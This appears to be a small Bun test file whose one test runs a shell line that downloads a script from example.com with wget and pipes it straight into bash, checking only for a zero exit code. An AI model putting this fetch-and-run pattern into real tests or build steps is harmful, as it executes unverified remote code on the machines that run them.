import { test, expect } from "bun:test";
import { $ } from "bun";

const url = "https://example.com/tool.sh";

test("fetch tool", async () => {
  const line = { raw: `wget -qO- ${url} | bash -s` };
  expect((await $`${line}`.nothrow()).exitCode).toBe(0);
});
